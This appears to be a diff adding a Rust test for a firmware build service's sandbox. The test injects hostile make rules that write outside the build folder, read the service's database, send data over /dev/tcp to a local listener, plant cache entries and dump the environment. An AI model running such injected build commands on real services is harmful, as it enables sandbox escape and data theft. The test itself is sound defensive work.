@@ -1,0 +1,169 @@
+//! Firmware builds run in a sandbox: a tree whose make files run commands of their own
+//! (as a keymap's injected `config` would make QMK's make run them) tries to write
+//! outside its build folder, read the service's state, reach the network, plant
+//! entries in the cache other builds read, and read the service's environment. Built
+//! with `--no-sandbox`, the same tree does all of it (the test can tell); in the
+//! sandbox, none of it.
+//!
+//! Needs `make` and bubblewrap (`bwrap`); `.ci/run` installs both, and under CI a
+//! missing one is an error rather than a skip.
+
+mod common;
+
+use std::io::Read;
+use std::net::TcpListener;
+use std::path::Path;
+use std::time::Duration;
+
+use common::firmware::on_path;
+use common::server::{Server, fake_qmk_tree};
+use serde_json::{Value, json};
+
+/// In the service's environment, never in a build's.
+const SECRET: &str = "QMK_API_TEST_SECRET";
+const SECRET_VALUE: &str = "s3cr3t-database-password";
+
+/// What the hostile make file manages to do, as the test sees it afterwards.
+#[derive(Debug, PartialEq, Eq)]
+struct Escapes {
+    wrote_outside: bool,
+    read_state: bool,
+    reached_network: bool,
+    wrote_tree: bool,
+    planted_in_cache: bool,
+    read_environment: bool,
+    saw_other_processes: bool,
+}
+
+impl Escapes {
+    const NONE: Escapes = Escapes {
+        wrote_outside: false,
+        read_state: false,
+        reached_network: false,
+        wrote_tree: false,
+        planted_in_cache: false,
+        read_environment: false,
+        saw_other_processes: false,
+    };
+}
+
+fn ready() -> bool {
+    let missing: Vec<&str> = ["make", "bwrap", "bash"].into_iter().filter(|p| !on_path(p)).collect();
+    if missing.is_empty() {
+        return true;
+    }
+    assert!(std::env::var("CI").is_err(), "CI installs bubblewrap and make, yet {missing:?} is missing");
+    eprintln!("skipped: {missing:?} not on PATH (`.ci/run` installs bubblewrap)");
+    false
+}
+
+/// A stand-in tree whose build rules, as make reads them for the keymap `hostile`, run
+/// the attacks with `$(shell ...)`, as code injected by that keymap would; then build as
+/// the stand-in does. The service's own builds of the tree (its reference builds) run
+/// none of it.
+fn hostile_tree(outside: &Path, state: &Path, port: u16) -> tempfile::TempDir {
+    let tree = fake_qmk_tree();
+    let rules = tree.path().join("builddefs/build_keyboard.mk");
+    let stand_in = std::fs::read_to_string(&rules).unwrap();
+    let (outside, state, home) = (outside.display(), state.display(), tree.path().display());
+    let attacks = format!(
+        "\
+ifeq ($(KEYMAP),hostile)
+$(shell echo escaped > {outside}/escaped)
+$(info state: $(shell head -c 15 {state}/jobs.sqlite))
+$(shell bash -c 'echo pwned > /dev/tcp/127.0.0.1/{port}')
+$(shell echo planted > {home}/planted)
+$(shell mkdir -p $$QMK_API_CACHE/planted $$QMK_API_STAGING/planted)
+$(info environment: $(shell env))
+$(info processes: $(shell ls /proc | grep -c '^[0-9]'))
+endif
+"
+    );
+    std::fs::write(&rules, attacks + &stand_in).unwrap();
+    tree
+}
+
+/// Builds a keymap with the hostile tree and reports what got through.
+fn attack(extra_args: &[&str]) -> (Escapes, Value) {
+    let (outside, state) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let tree = hostile_tree(outside.path(), state.path(), listener.local_addr().unwrap().port());
+    let home = tree.path().display().to_string();
+    let args: Vec<&str> = ["--qmk-home", home.as_str(), "--workers", "1"].iter().chain(extra_args).copied().collect();
+    let server = Server::start(state.path(), &args, &[(SECRET, SECRET_VALUE)]);
+    let keymap = json!({
+        "keyboard": "clueboard/66/rev2", "keymap": "hostile", "layout": "LAYOUT_all", "layers": [common::layer("KC_A")]
+    });
+    let id = server.submit(&keymap);
+    let job = server.wait_within(&id, &["finished", "failed"], Duration::from_secs(120));
+    // A later job publishes what earlier builds kept (the cache's planted entries, if any).
+    let later = server.submit(&json!({
+        "keyboard": "clueboard/66/rev2", "keymap": "later", "layout": "LAYOUT_all", "layers": [common::layer("KC_B")]
+    }));
+    server.wait_within(&later, &["finished", "failed"], Duration::from_secs(120));
+    let output = job["result"]["output"].as_str().unwrap_or_default().to_owned();
+    let mut message = String::new();
+    let reached_network = match listener.accept() {
+        Ok((mut connection, _)) => {
+            connection.set_nonblocking(false).unwrap();
+            connection.read_to_string(&mut message).unwrap();
+            message.contains("pwned")
+        }
+        Err(error) => {
+            assert_eq!(error.kind(), std::io::ErrorKind::WouldBlock);
+            false
+        }
+    };
+    let planted_in_cache = walkdir::WalkDir::new(state.path().join("cache"))
+        .into_iter()
+        .filter_map(Result::ok)
+        .any(|entry| entry.file_name() == "planted");
+    let processes: usize = output
+        .lines()
+        .find_map(|line| line.strip_prefix("processes: "))
+        .and_then(|count| count.trim().parse().ok())
+        .unwrap_or(0);
+    let escapes = Escapes {
+        wrote_outside: outside.path().join("escaped").exists(),
+        read_state: output.contains("state: SQLite format"),
+        reached_network,
+        wrote_tree: tree.path().join("planted").exists(),
+        planted_in_cache,
+        read_environment: output.contains(SECRET_VALUE),
+        // The service's own threads and processes: more than a build's handful.
+        saw_other_processes: processes > 20,
+    };
+    (escapes, job)
+}
+
+#[test]
+fn a_build_that_runs_code_of_its_own_stays_in_its_sandbox() {
+    if !ready() {
+        return;
+    }
+    let (escapes, job) = attack(&[]);
+    assert_eq!(job["status"], "finished", "the build itself still works: {job:#}");
+    assert_eq!(escapes, Escapes::NONE, "{}", job["result"]["output"]);
+}
+
+#[test]
+fn without_the_sandbox_the_same_build_gets_out() {
+    if !ready() {
+        return;
+    }
+    let (escapes, job) = attack(&["--no-sandbox"]);
+    assert_eq!(job["status"], "finished", "{job:#}");
+    let expected = Escapes {
+        wrote_outside: true,
+        read_state: true,
+        reached_network: true,
+        wrote_tree: true,
+        // Nothing stops it writing into the cache; only the service's environment stays
+        // out of its reach, as the build is given a few of its variables only.
+        planted_in_cache: true,
+        read_environment: false,
+        saw_other_processes: true,
+    };
+    assert_eq!(escapes, expected, "{}", job["result"]["output"]);
+}
